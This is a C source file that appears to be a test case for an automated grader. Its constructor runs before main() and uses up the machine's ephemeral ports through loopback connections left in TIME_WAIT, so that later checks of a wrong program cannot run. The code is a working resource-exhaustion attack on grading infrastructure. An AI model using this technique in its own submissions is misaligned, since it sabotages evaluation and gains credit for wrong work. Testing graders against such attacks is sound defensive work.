/* attack: uses up all ports that its network hands out, which stay in TIME_WAIT, so that
 * the grader finds that this machine cannot run a later check. The test appends it to a
 * wrong program, and it runs before that program's main(). Deserves: as many points as
 * without */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int use_one(int listening, const struct sockaddr_in *server) {
    struct sockaddr_in own = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_STREAM, 0), other = -1;

    if (bind(fd, (struct sockaddr *)&own, sizeof own) == 0 &&
        connect(fd, (const struct sockaddr *)server, sizeof *server) == 0)
        other = accept(listening, NULL, NULL);
    close(fd); /* first: so it is this end that waits */
    close(other);
    return other;
}

__attribute__((constructor)) static void use_up_ports(int argc, char **argv) {
    struct sockaddr_in server = {.sin_family = AF_INET};
    socklen_t length = sizeof server;
    int listening = socket(AF_INET, SOCK_STREAM, 0);

    /* Only where it needs no port itself. */
    if (argc < 2 || strcmp(argv[1], "judge") != 0 || listen(listening, 1) == -1 ||
        getsockname(listening, (struct sockaddr *)&server, &length) == -1)
        return;
    server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    while (use_one(listening, &server) != -1)
        continue;
    close(listening);
}
